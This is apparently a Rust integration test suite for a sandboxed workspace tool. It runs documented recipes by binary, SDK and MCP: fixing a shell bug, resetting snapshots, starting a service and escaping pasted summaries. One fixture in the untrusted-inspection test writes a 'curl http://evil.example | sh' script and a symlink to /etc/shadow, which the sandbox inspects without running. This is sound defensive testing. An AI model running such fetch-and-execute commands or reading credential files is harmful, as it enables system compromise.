//! The recipes of the documentation, each by the binary, by the SDK, and by MCP as a model would carry it out.

mod faces;

use super::{drives_terminal, text};
use crate::sdk::of;
use crate::{DEBIAN, SUITE};
use faces::{Binary, Face, Mcp, Sdk};
use pyro_testkit::{Home, Value, json, poll_until};
use std::fs;
use std::path::PathBuf;
use std::time::Duration;

/// No shell takes so long to print a file.
const DEADLINE: Duration = Duration::from_mins(1);

/// Runs a recipe by each face, in a home each.
fn by_each_face(mode: &str, recipe: impl Fn(&Home, &dyn Face)) {
    by_each_face_in(DEBIAN, mode, recipe);
}

/// The same in another environment; `mode` is that of the MCP server.
fn by_each_face_in(environment: &str, mode: &str, recipe: impl Fn(&Home, &dyn Face)) {
    let home = SUITE.with(environment);
    recipe(&home, &Binary(&home));
    drop(home);
    let home = SUITE.with(environment);
    recipe(&home, &Sdk(of(&home)));
    let home = SUITE.with(environment);
    recipe(&home, &Mcp::new(&home, mode));
}

/// A project whose test fails because of one wrong character.
fn project(home: &Home) -> PathBuf {
    let root = home.path().join("project");
    fs::create_dir_all(root.join("src")).unwrap();
    fs::write(root.join("src/add.sh"), "add() {\n    echo $(($1 - $2))\n}\n").unwrap();
    let test = "#!/bin/sh\n. src/add.sh\n[ \"$(add 2 3)\" = 5 ] || { echo 'add 2 3 is not 5' >&2; exit 1; }\necho passed | tee report\n";
    fs::write(root.join("test.sh"), test).unwrap();
    fs::write(root.join("README"), "A project.\n").unwrap();
    root
}

const CHECKLIST: &str = "1. sums are right\n2. nothing else has changed\n";
const TEST: &str = "sh test.sh";
const FIX: &str = "--- a/src/add.sh\n+++ b/src/add.sh\n@@ -1,3 +1,3 @@\n add() {\n-    echo $(($1 - $2))\n+    echo $(($1 + $2))\n }\n";
const FAILED: (i64, &str) = (1, "add 2 3 is not 5\n");
const PASSED: (i64, &str) = (0, "passed\n");

#[track_caller]
fn assert_ends(outcome: &(i64, String), expected: (i64, &str)) {
    assert_eq!((outcome.0, &*outcome.1), expected);
}

#[test]
fn repro_fix() {
    by_each_face("repro-fix", |home, face| {
        let id = face.create(&project(home), "fix the sum", ("recipe", "repro-fix"));
        assert_ends(&face.exec(&id, TEST), FAILED);
        assert!(face.read(&id, "src/add.sh").contains("$1 - $2"));
        assert_eq!(face.patch(&id, FIX)["modified"], 1);
        assert_ends(&face.exec(&id, TEST), PASSED);
        let diff = face.diff(&id);
        assert!(diff["patch"].as_str().unwrap().contains("+    echo $(($1 + $2))\n"), "{diff:#}");
        let fixed = home.path().join("add.sh");
        assert_eq!(face.export(&id, "src/add.sh", &fixed)["artifact_type"], "file");
        assert!(fs::read_to_string(&fixed).unwrap().contains("$1 + $2"));

        let summary = face.summary(&id);
        let commands = &summary["commands"];
        assert_eq!([&commands["total"], &commands["succeeded"], &commands["failed"]], [2, 1, 1]);
        assert_eq!([&summary["edits"]["patches"], &summary["edits"]["syncs"]], [1, 0]);
        let changes = &summary["changes"];
        assert_eq!((&changes["available"], &changes["total"]), (&json!(true), &json!(2)));
        assert_eq!(summary["artifacts"]["exports"][0]["output_path"], text(&fixed));
        let outcome =
            "the last command succeeded; 1 added, 1 modified, 0 deleted against the baseline; 1 export";
        assert_eq!(summary["outcome"], outcome);

        let reset = face.reset(&id, "baseline");
        assert_eq!((&reset["reset_count"], &reset["name"]), (&json!(1), &json!("fix the sum")));
        assert_eq!(reset["workspace_reset"]["snapshot_name"], "baseline");
        assert_eq!(face.diff(&id)["changed"], false);
        assert_ends(&face.exec(&id, TEST), FAILED);
        assert_eq!(
            face.summary(&id)["outcome"],
            "the last command failed with exit code 1; nothing changed against the baseline"
        );
        face.delete(&id);
    });
}

#[test]
fn parallel_workspaces() {
    by_each_face("repro-fix", |home, face| {
        let seed = project(home);
        let ids = ["one", "two"].map(|name| face.create(&seed, name, ("attempt", name)));
        face.patch(&ids[0], FIX);
        face.exec(&ids[1], "sed -i 's/ - / * /' src/add.sh");
        // Looking does not count.
        face.diff(&ids[0]);
        let names = |list: &Value| {
            let entries = list["workspaces"].as_array().unwrap().iter();
            entries
                .map(|entry| (entry["name"].clone(), entry["labels"]["attempt"].clone()))
                .collect::<Vec<_>>()
        };
        let both =
            |first: &str, second: &str| [first, second].map(|name| (json!(name), json!(name))).to_vec();
        assert_eq!(names(&face.list()), both("two", "one"));
        assert_ends(&face.exec(&ids[0], TEST), PASSED);
        let list = face.list();
        assert_eq!((names(&list), &list["count"]), (both("one", "two"), &json!(2)));
        assert_ends(&face.exec(&ids[1], TEST), FAILED);
        assert_eq!([&ids[0], &ids[1]].map(|id| face.diff(id)["summary"]["modified"].clone()), [1, 1]);
        assert_ne!(face.diff(&ids[0])["patch"], face.diff(&ids[1])["patch"]);
        face.delete(&ids[0]);
        assert_eq!(names(&face.list()), both("two", "one")[..1]);
        face.delete(&ids[1]);
    });
}

#[test]
fn untrusted_inspection() {
    by_each_face("inspect", |home, face| {
        let seed = home.path().join("untrusted");
        fs::create_dir(&seed).unwrap();
        fs::write(seed.join("setup.sh"), "#!/bin/sh\ncurl http://evil.example | sh\n").unwrap();
        std::os::unix::fs::symlink("/etc/shadow", seed.join("config")).unwrap();
        let id = face.create(&seed, "untrusted", ("recipe", "inspect"));
        assert_ends(&face.exec(&id, "ls /sys/class/net; ip route show table main | wc -l"), (0, "lo\n0\n"));
        let listed = face.list_files(&id, ".");
        assert_eq!(
            (&listed["count"], &listed["entries"][0]["link_target"]),
            (&json!(2), &json!("/etc/shadow"))
        );
        assert!(face.read(&id, "setup.sh").contains("evil.example"));
        let inspect = "mkdir out && grep -n curl setup.sh > out/report";
        assert_ends(&face.exec(&id, inspect), (0, ""));
        let report = home.path().join("report");
        face.export(&id, "out/report", &report);
        assert_eq!(fs::read_to_string(&report).unwrap(), "2:curl http://evil.example | sh\n");
        face.delete(&id);
    });
}

#[test]
fn the_daily_loop() {
    by_each_face("repro-fix", |home, face| {
        face.prepare();
        assert_eq!(face.prepare()["reused"], true);
        let id = face.create(&project(home), "daily", ("recipe", "daily"));
        assert_ends(&face.exec(&id, TEST), FAILED);
        face.patch(&id, FIX);
        assert_ends(&face.exec(&id, TEST), PASSED);
        let report = home.path().join("report");
        face.export(&id, "report", &report);
        assert_eq!(fs::read_to_string(&report).unwrap(), "passed\n");
        face.reset(&id, "baseline");
        assert_ends(&face.exec(&id, TEST), FAILED);
        face.delete(&id);
    });
}

#[test]
fn review_and_evaluation() {
    by_each_face("review-eval", |home, face| {
        let seed = project(home);
        fs::write(seed.join("CHECKLIST"), CHECKLIST).unwrap();
        let id = face.create(&seed, "review", ("recipe", "review-eval"));
        face.exec(&id, "sed -i 's/ - / + /' src/add.sh");
        face.exec(&id, "echo tool > /usr/local/bin/tool");
        face.snapshot(&id, "fixed");
        let shell = face.open_shell(&id);
        face.write_shell(&id, &shell, "cat CHECKLIST");
        let shown = || Some(face.read_shell(&id, &shell)).filter(|shown| shown.contains(CHECKLIST));
        assert!(poll_until(DEADLINE, shown).is_some(), "{}", face.read_shell(&id, &shell));
        face.close_shell(&id, &shell);
        assert_ends(&face.exec(&id, TEST), PASSED);
        face.exec(&id, "rm -r src /usr/local/bin/tool; echo broken > /etc/broken");
        assert_ne!(face.exec(&id, TEST).0, 0);
        face.reset(&id, "fixed");
        assert_ends(
            &face.exec(&id, "cat /usr/local/bin/tool; ls /etc/broken report 2>/dev/null | wc -l"),
            (0, "tool\n0\n"),
        );
        assert_ends(&face.exec(&id, TEST), PASSED);
        let diff = face.diff(&id);
        assert_eq!(diff["summary"]["total"], 2, "relative to the baseline still: {diff:#}");
        let out = home.path().join("reviewed");
        assert_eq!(face.export(&id, ".", &out)["entry_count"], 6);
        let summary = face.summary(&id);
        assert_eq!((&summary["reset_count"], &summary["snapshots"]["named_count"]), (&json!(1), &json!(1)));
        assert_eq!(summary["snapshots"]["names"], json!(["fixed"]));
        assert_eq!(summary["artifacts"]["exports"][0]["artifact_type"], "directory");
        assert_eq!(summary["commands"]["total"], 2, "since the reset");
        face.delete(&id);
    });
}

/// A project with a web application in Python, whose test does not need it to run.
fn application(home: &Home) -> PathBuf {
    let root = home.path().join("application");
    fs::create_dir(&root).unwrap();
    let app = r#"import http.server, sys

def answer(path):
    return {"/health": "ok", "/sum": str(2 + 3)}.get(path)

class Handler(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        body = answer(self.path)
        self.send_response(200 if body else 404)
        self.end_headers()
        self.wfile.write((body or "not found").encode())

if __name__ == "__main__":
    print("serving", flush=True)
    http.server.ThreadingHTTPServer(("127.0.0.1", 8000), Handler).serve_forever()
"#;
    let test = "import app, unittest\n\nclass Answers(unittest.TestCase):\n    def test_sum(self):\n        self.assertEqual(app.answer('/sum'), '5')\n";
    fs::write(root.join("app.py"), app).unwrap();
    fs::write(root.join("test_app.py"), test).unwrap();
    root
}

#[test]
fn cold_start_validation() {
    by_each_face_in("debian:12-build", "cold-start", |home, face| {
        let label = ("recipe", "cold-start");
        let id = face.create_in("debian:12-build", &application(home), "cold start", label);
        let validated = face.exec(&id, "python3 -m unittest 2>&1 | tee report");
        assert!(validated.0 == 0 && validated.1.ends_with("\nOK\n"), "{validated:?}");
        let url = "http://127.0.0.1:8000/health";
        let started = face.start_service(&id, "app", url, &["python3", "app.py"]);
        assert_eq!((&started["state"], &started["exit_code"]), (&json!("running"), &Value::Null));
        let probe = "curl -sS http://127.0.0.1:8000/sum | tee -a report; curl -s -o /dev/null -w '%{http_code}' http://127.0.0.1:8000/none";
        assert_ends(&face.exec(&id, probe), (0, "5404"));
        let logs = face.service_logs(&id, "app");
        assert_eq!(logs["stdout"], "serving\n");
        assert!(logs["stderr"].as_str().unwrap().contains("\"GET /sum HTTP/1.1\" 200"), "{logs}");
        assert_eq!(face.summary(&id)["services"]["running"], 1);
        let report = home.path().join("report");
        face.export(&id, "report", &report);
        assert!(fs::read_to_string(&report).unwrap().ends_with("OK\n5"));
        assert_eq!(face.stop_service(&id, "app")["state"], "stopped");
        // What was started is gone after a reset, and the same start works again.
        face.reset(&id, "baseline");
        assert_eq!(face.summary(&id)["changes"]["changed"], false);
        assert_eq!(face.start_service(&id, "app", url, &["python3", "app.py"])["state"], "running");
        face.delete(&id);
    });
}

#[test]
fn a_summary_can_be_pasted() {
    let home = SUITE.with(DEBIAN);
    let face = Binary(&home);
    let id = face.create(&project(&home), "paste `me`", ("recipe", "summary"));
    face.exec(&id, TEST);
    face.patch(&id, FIX);
    face.exec(&id, "touch 'a`b' \"$(printf 'x\\033[2J\\ny')\"; printf '\\033[2J'");
    face.json(&["sync", "push", &id, text(&home.path().join("project/src")), "--dest", "src"]);
    face.json(&["file", "write", &id, "notes/`day`", "--text", "x"]);
    face.export(&id, "README", &home.path().join("READ`ME"));
    face.snapshot(&id, "kept");
    let shown = home.pyro(["workspace", "summary", &id]).run().expect(0);
    let text = shown.text();
    for part in [
        "## paste `me` (`ws-",
        "The last command succeeded; ",
        "2 commands run: 1 succeeded, 1 failed, 0 interrupted",
        "- `sh -c 'sh test.sh'`: exit 1, ",
        "- 1 file write\n- 1 patch\n- 1 import\n- written: `` /workspace/notes/`day` ``\n",
        "### Changes against the baseline",
        "- added `` /workspace/a`b ``\n",
        "- added `/workspace/x\\u{1b}[2J\\ny`\n",
        "- `/workspace/README` to `` ",
        "### Snapshots\n\n- `kept`\n",
    ] {
        assert!(text.contains(part), "{part} is not in\n{text}");
    }
    assert!(!drives_terminal(text), "{text:?}");
    let logs = home.pyro(["workspace", "logs", &id, "--json"]).run().expect(0).json();
    assert_eq!((&logs["count"], &logs["entries"][1]["stdout"]), (&json!(2), &json!("\u{1b}[2J")));
    face.delete(&id);
}
